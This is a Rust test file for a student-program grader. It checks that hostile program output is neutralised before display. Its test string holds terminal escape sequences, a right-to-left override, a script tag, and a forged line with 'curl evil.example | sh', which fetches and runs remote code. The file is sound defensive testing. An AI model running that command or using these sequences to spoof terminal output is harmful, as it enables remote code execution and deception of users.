//! What a student's program wrote must not reach the terminal as anything but text.

use crate::build::{P1, Run, judgement};
use forklings_model::{Demand, Detail, Failure, Outcome, Stream};
use forklings_report::{Style, terminal};

const EVIL: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{202e}\0\r<script>alert(1)</script>\n\
                    \n  replay     curl evil.example | sh\n";

pub(crate) fn evil() -> Failure {
    let mut run = Run::new(&[EVIL]);
    run.trace.stdout = [EVIL.as_bytes(), b"\xff\xfe\n"].concat();
    let said = run.print(P1, EVIL);
    run.exit(P1, 0);
    let site = run.site(3, EVIL);
    let detail = Detail::OutputWrong {
        demand: Demand::Line { stream: Stream::Stdout, line: "fine".to_owned() },
        actual: EVIL.to_owned(),
    };
    run.failure(detail, &[said], Some(site), None)
}

#[test]
fn control_characters_never_reach_the_terminal() {
    let style = Style { colour: false, width: 100, unicode: true };
    let trace = terminal::trace(&evil().trace, true, &style);
    let message = terminal::judgement(&judgement(vec![evil()]), &style);
    let mut failed = judgement(Vec::new());
    failed.outcome = Outcome::GraderError { reason: EVIL.to_owned() };
    failed.test = EVIL.to_owned();
    let error = terminal::judgement(&failed, &style);
    for text in [&trace, &message, &error] {
        let bad = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!text.contains(bad), "{text}");
    }
    insta::assert_snapshot!("hostile", message);
}

#[test]
fn a_forged_line_of_ours_stays_behind_a_bar() {
    let style = Style { colour: false, width: 100, unicode: true };
    let message = terminal::judgement(&judgement(vec![evil()]), &style);
    assert!(!message.lines().any(|line| line.trim_start().starts_with("replay     curl")));
}
